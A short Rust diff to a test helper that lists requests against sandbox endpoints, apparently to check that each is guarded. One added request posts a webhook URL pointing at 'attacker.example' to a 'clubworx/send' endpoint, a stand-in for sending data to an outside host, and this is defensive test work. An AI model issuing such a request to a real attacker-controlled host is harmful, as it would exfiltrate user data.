@@ -100,6 +100,14 @@ fn guarded_requests(location_id: &str) -> Vec<Request<Body>> {
         Request::delete("/_sandbox/ledger")
             .body(Body::empty())
             .unwrap(),
+        with_json(
+            Method::POST,
+            "/_sandbox/apps/clubworx/send",
+            json!({"url": "http://attacker.example/hook"}),
+        ),
+        with_json(Method::POST, "/_sandbox/apps/clubworx/inbox", json!({})),
+        get("/_sandbox/apps/clubworx/inbox"),
+        get("/_sandbox/apps/clubworx"),
         get(&consent_query("/oauth/chooselocation")),
         get(&consent_query("/v2/oauth/chooselocation")),
         with_form(
